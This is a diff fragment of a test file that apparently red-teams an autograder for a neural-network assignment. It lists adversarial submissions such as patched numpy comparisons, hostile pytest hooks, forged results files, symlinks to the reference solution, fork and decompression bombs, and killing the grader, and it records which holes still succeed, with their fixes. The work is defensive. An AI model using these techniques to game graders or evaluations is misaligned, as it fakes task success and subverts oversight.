+    helpers = _notebook_helpers()
+    nb = nbformat.v4.new_notebook()
+    nb.cells = [nbformat.v4.new_code_cell(ctx.fill(code)), nbformat.v4.new_markdown_cell(helpers.QUESTION),
+                nbformat.v4.new_markdown_cell(RIGHT_ANSWER)]
+    return nb
+
+
+def _memorising_notebook(ctx):
+    helpers = _notebook_helpers()
+    return weak_notebook(ctx, train=helpers.TRAIN + "\n" + ctx.fill(MEMORISE_TEST_SET))
+
+
+# ---------------------------------------------------------------------------
+
+ATTACKS = [
+    # Notebooks first: they take longest, so they start first.
+    Attack("notebook_os_exit_last_cell",
+           "notebook: os._exit(0) in the last cell (network that learns nothing)",
+           fails={"6.1"} | WEAK_NOTEBOOK, budget=90,
+           notebook=lambda ctx: weak_notebook(ctx, after_test=["import os\nos._exit(0)"])),
+    Attack("notebook_background_results_writer",
+           "notebook: a detached process (double fork + setsid) keeps overwriting results.json",
+           fails=WEAK_NOTEBOOK, budget=90, post=("not_forged", "results_stable"),
+           notebook=lambda ctx: weak_notebook(ctx, after_test=[NOTEBOOK_WRITER])),
+    Attack("notebook_reads_real_test_labels",
+           "notebook: reads the real test_batch by absolute path (else its own) and prints 100% test accuracy",
+           fails=WEAK_NOTEBOOK, budget=90, post=("claim_flagged", "labels_unread_with_switch"),
+           notebook=lambda ctx: weak_notebook(ctx, after_test=[CLAIM_FULL_MARKS])),
+    Attack("notebook_trains_on_real_test_labels",
+           "notebook: best_net memorises the 500 test images with the real labels read from the dataset folder",
+           fails=WEAK_NOTEBOOK, budget=90, user_switch=True, notebook=_memorising_notebook),
+    Attack("notebook_forged_extraction",
+           "notebook: patches json.dump so the grader's extraction writes a list, not a dict",
+           fails={"6.2", "6.3", "6.4", "6.5", "6.6"}, budget=60, post=("notebook_ran_once",),
+           notebook=lambda ctx: _tiny_notebook(ctx, FORGE_EXTRACTION)),
+
+    # Layer files.
+    Attack("numpy_comparisons_patched",
+           "numpy.allclose, isclose, testing.assert_allclose, linalg.norm patched to pass; dw transposed",
+           bug="linear_dw_wrong_order", append={LINEAR: PATCH_NUMPY}),
+    Attack("pytest_hooks_and_config",
+           "conftest.py forcing passes (makereport hook), pytest.ini/setup.cfg/tox.ini/pyproject addopts, "
+           "sitecustomize, hostile layers/__init__.py; bias forgotten",
+           bug="linear_forgot_bias", post=("extras_ignored",),
+           extra={"conftest.py": CONFTEST, "layers/conftest.py": CONFTEST, "pytest.ini": PYTEST_INI,
+                  "setup.cfg": SETUP_CFG, "tox.ini": TOX_INI, "pyproject.toml": PYPROJECT,
+                  "sitecustomize.py": SITECUSTOMIZE, "usercustomize.py": SITECUSTOMIZE,
+                  "layers/__init__.py": HOSTILE_INIT}),
+    Attack("sys_exit_at_import", "sys.exit(0) when layers/linear.py is imported",
+           fails={LF, LB, STEP, TOY}, prepend={LINEAR: SYS_EXIT}),
+    Attack("os_exit_at_import", "os._exit(0) when layers/relu.py is imported",
+           fails={RF, RB, STEP, TOY}, prepend={RELU: OS_EXIT}),
+    Attack("infinite_loop_in_forward", "Linear.forward loops forever on a batch of one",
+           fails={LF, LB}, append={LINEAR: INFINITE_LOOP}, budget=45),
+    # Zero-filling 4 GiB can take longer than a call may (5 s) on a busy machine:
+    # a roomier call time limit leaves the address-space limit to stop it.
+    Attack("memory_bomb", "Softmax.forward hoards 100 MB bytearrays until it fails; no max shift",
+           bug="softmax_no_max_shift", append={SOFTMAX: MEMORY_BOMB}, post=("memory_bounded",),
+           env={"GRADER_CALL_TIMEOUT": "60"}, budget=60),
+    Attack("huge_file", "CrossEntropyLoss.forward writes zeros to a file, up to 1 GiB; softmax applied twice",
+           bug="loss_softmax_again_in_forward", append={LOSS: HUGE_FILE}, post=("file_bounded",)),
+    Attack("results_overwritten_in_process", "every Linear.forward overwrites results.json with a forged 100/100; "
+           "bias forgotten", bug="linear_forgot_bias", append={LINEAR: FORGE_IN_PROCESS},
+           post=("not_forged",)),
+    Attack("results_background_writer",
+           "a detached process (double fork + setsid) keeps overwriting results.json; bias forgotten",
+           bug="linear_forgot_bias", append={LINEAR: BACKGROUND_WRITER},
+           post=("not_forged", "results_stable")),
+    Attack("results_replaced_by_folder", "results.json deleted and a folder put in its place; bias forgotten",
+           bug="linear_forgot_bias", append={LINEAR: RESULTS_AS_FOLDER}, user_switch=True),
+    Attack("delegates_to_reference",
+           "Linear.backward loads reference/layers/linear.py by path and delegates to it; dw transposed",
+           bug="linear_dw_wrong_order", append={LINEAR: DELEGATE_TO_REFERENCE}, user_switch=True),
+    Attack("fake_all_passed_banner",
+           f"prints {FAKE_BANNER!r} to stdout, stderr, fds 1/2 and /dev/tty; ReLU mask on the wrong side",
+           bug="relu_mask_wrong_side", append={RELU: FAKE_OUTPUT}, post=("banner_hidden",)),
+    Attack("grader_modules_patched",
+           "imports grader.checks/compare/config/plugin from the repository and patches them; dx untransposed",
+           bug="linear_dx_missing_transpose", append={LINEAR: PATCH_GRADER}),
+    Attack("always_equal_ndarray",
+           "ReLU.forward returns an ndarray subclass whose ==, ufuncs and allclose always say equal; leaky ReLU",
+           bug="relu_forward_leaky", append={RELU: ALWAYS_EQUAL}),
+    Attack("numpy_shadowed", "numpy.py, layers/numpy.py and utils/numpy.py that agree with everything; "
+           "db averaged", bug="linear_db_mean", post=("extras_ignored",),
+           extra={"numpy.py": FAKE_NUMPY, "layers/numpy.py": FAKE_NUMPY, "utils/numpy.py": FAKE_NUMPY}),
+    Attack("kills_the_grader", "SIGKILL to the grader (its parent) and its process group; bias forgotten",
+           bug="linear_forgot_bias", append={LINEAR: KILL_GRADER}, user_switch=True),
+    Attack("opens_grader_files_for_writing",
+           "opens grader/checks/test_linear.py, grader/grade.py and the reference for writing; bias forgotten",
+           bug="linear_forgot_bias", append={LINEAR: OPEN_GRADER_FILES}, user_switch=True,
+           post=("grader_files_closed",)),
+    Attack("overflowing_norms",
+           "every layer computes nothing and returns 1e300 in every entry (right shapes)",
+           fails=set(CHECKS), replace={LINEAR: HUGE_LINEAR,
+                                       RELU: HUGE_ACTIVATION.format(huge=HUGE, name="ReLU"),
+                                       SOFTMAX: HUGE_ACTIVATION.format(huge=HUGE, name="Softmax"),
+                                       LOSS: HUGE_LOSS}),
+    Attack("symlink_to_reference", "layers/linear.py is a symlink to reference/layers/linear.py",
+           fails={LF, LB, STEP, TOY}, symlinks={LINEAR: "reference/layers/linear.py"}),
+    Attack("symlinked_layers_folder", "layers/ is a symlink to reference/layers",
+           fails=set(CHECKS), remove=("layers",), symlinks={"layers": "reference/layers"}),
+    Attack("symlink_exfiltrates_hidden_checks",
+           "layers/relu.py is a symlink to grader/checks/test_linear.py; Linear.forward raises its text; "
+           "bias forgotten", bug="linear_forgot_bias", fails={LB, RF, RB},
+           symlinks={RELU: "grader/checks/test_linear.py"}, append={LINEAR: EXFILTRATE_RELU_FILE},
+           post=("hidden_checks_not_shown",)),
+    Attack("wire_decompression_bomb",
+           f"Linear.backward writes a forged answer to the worker's pipe: 3 MB that inflate to "
+           f"{BOMB_GIB} GiB in the grader; dw transposed",
+           bug="linear_dw_wrong_order", append={LINEAR: lambda ctx: _wire_bomb_code()}, post=("grader_memory",)),
+    Attack("unprintable_exception",
+           "Linear.backward raises, on a batch of one, an exception whose str() never returns",
+           fails={LB}, append={LINEAR: UNPRINTABLE_EXCEPTION}, budget=45),
+    Attack("kills_other_gradings",
+           "a detached process kills the sandbox workers of another grading running beside it; "
+           "Linear.forward loops on a batch of one",
+           fails={LF, LB}, append={LINEAR: CROSS_KILL}, victim=True, budget=60,
+           post=("victim_unharmed",)),
+    # Last and alone: while it runs, the sandbox user's process limit is used up.
+    Attack("fork_bomb", "ReLU.backward forks 5000 children that setsid and sleep; mask on the wrong side",
+           bug="relu_mask_wrong_side", append={RELU: FORK_BOMB}, alone=True, budget=60),
+]
+BY_NAME = {attack.name: attack for attack in ATTACKS}
+
+
+@dataclass(frozen=True)
+class Hole:
+    """An attack that gets through today: the problem kinds it causes (all of
+    `kinds`, possibly some of `also`), what happens and why."""
+    kinds: frozenset
+    what: str
+    also: frozenset = frozenset()
+
+
+# Attacks that succeed against the current grader, recorded rather than hidden.
+# The test expects each to fail with exactly these kinds of problem (xfail,
+# strict): a hole that closes, or changes, makes it fail until this is updated.
+KNOWN_HOLES = {
+    "notebook_os_exit_last_cell": Hole(
+        kinds=frozenset({"crash", "time", "results"}), also=frozenset({"survivors"}),
+        what="the grader hangs for good and writes no results.json: the kernel dies (os._exit) before "
+             "it reports idle, and nbclient's _async_poll_output_msg waits for that message with "
+             "iopub_channel.get_msg(timeout=None). grader/notebook/execute.py hands nbclient a "
+             "synchronous KernelManager, whose BlockingKernelClient makes that call block the whole "
+             "event loop (zmq_poll with timeout -1), so neither the cell timeout, nor nbclient's "
+             "kernel-alive poll, nor the NOTEBOOK_TIMEOUT watchdog (it kills a kernel that is "
+             "already dead) can end it. Fix: an AsyncKernelManager (nbclient's default), or any "
+             "client whose get_msg is awaited."),
+    "notebook_forged_extraction": Hole(
+        kinds=frozenset({"score", "post"}), also=frozenset({"time"}),
+        what="the notebook is executed 7 times and every notebook check scores 0, the ones it "
+             "deserves (6.1 runs cleanly, 6.7 answered right) included: .grader_extract.json holds a "
+             "list, run() calls .get on it (AttributeError), so the plugin's `notebook` fixture raises; "
+             "its result is cached only on success, so each of the 7 notebook checks runs the whole "
+             "notebook again (7 x NOTEBOOK_TIMEOUT at worst, far past Gradescope's limit). Fix: "
+             "validate the extracted JSON's types, and cache a failed run as a NotebookResult with "
+             "its problem."),
+    "overflowing_norms": Hole(
+        kinds=frozenset({"score"}),
+        what="a submission that computes nothing scores 55.3/60 by returning 1e300 in every entry: "
+             "grader/compare.py's relative_error divides norm(got - want) by norm(got) + norm(want), "
+             "both inf once a square overflows, and inf/inf = nan; `nan > rtol` is False, so "
+             "describe_mismatch reports a match. One such entry in any output, gradient, loss or "
+             "trained parameter passes its comparison. Fix: treat a non-finite error as a mismatch "
+             "(`not err <= rtol`), or scale before taking norms."),
+    "symlink_to_reference": Hole(
+        kinds=frozenset({"score"}),
+        what="full marks for Linear without writing it: grader/submission.py takes layers/linear.py "
+             "with os.path.isfile and shutil.copyfile, which follow symlinks, so the trusted process "
+             "(root, before any sandbox) copies the reference solution into the sandbox. A GitHub "
+             "or zip submission can carry symlinks. Fix: refuse symlinks (os.path.islink, or "
+             "open with O_NOFOLLOW) and paths that resolve outside the submission."),
+    "symlinked_layers_folder": Hole(
+        kinds=frozenset({"score"}),
+        what="60/60 for a submission with no code: layers/ is a symlink to reference/layers, and "
+             "find_root's os.path.isdir and inspect's isfile/copyfile follow it (same cause as "
+             "symlink_to_reference)."),
+    "symlink_exfiltrates_hidden_checks": Hole(
+        kinds=frozenset({"post"}),
+        what="the hidden checks reach the student: layers/relu.py, a symlink to "
+             "grader/checks/test_linear.py, is copied into the sandbox by the trusted process, and "
+             "an exception raised with its text shows up in results.json's feedback. Any file the "
+             "grader can read can be read this way (the user switch does not help: the copy is made "
+             "before it). Same fix as symlink_to_reference."),
+    "wire_decompression_bomb": Hole(
+        kinds=frozenset({"post"}), also=frozenset({"time"}),
+        what="the trusted grader process allocates what the worker claims: student code writes its "
+             "own answer to the worker's pipe (the only write-only pipe in /proc/self/fd), an .npz "
+             "whose deflated entry is 3 MB and inflates to 3 GiB; wire.decode's np.load reads it "
+             "whole (MAX_MESSAGE_BYTES bounds only the compressed size), so the grader's peak memory "
+             "reached about 3.1 GiB, and a larger entry would exhaust the machine's memory (the "
+             "grader has no memory limit). Fix: refuse compressed zip members (np.savez never "
+             "writes them) or check each member's file_size against the limit before reading."),
+    "kills_other_gradings": Hole(
+        kinds=frozenset({"post"}),
+        what="one submission wrecks another graded beside it (python -m grader batch --jobs N runs "
+             "gradings side by side): all sandboxes run as the same user (nobody), or as root "
+             "without the switch, so a detached process of one can SIGKILL the other's workers "
+             "(here the clean reference scored 0/60); it could as well read or rewrite the other's "
+             "submission folder, which is owned by that same user, and the shared RLIMIT_NPROC lets "
+             "one fork bomb starve the others. Fix: one user per concurrent grading (a pool of uids), "
+             "or PID/user namespaces."),
+}
+
+_unknown = set(KNOWN_HOLES) - set(BY_NAME)
+assert not _unknown, f"KNOWN_HOLES names no attack: {_unknown}"
+assert len(BY_NAME) == len(ATTACKS), "attack names must be unique"
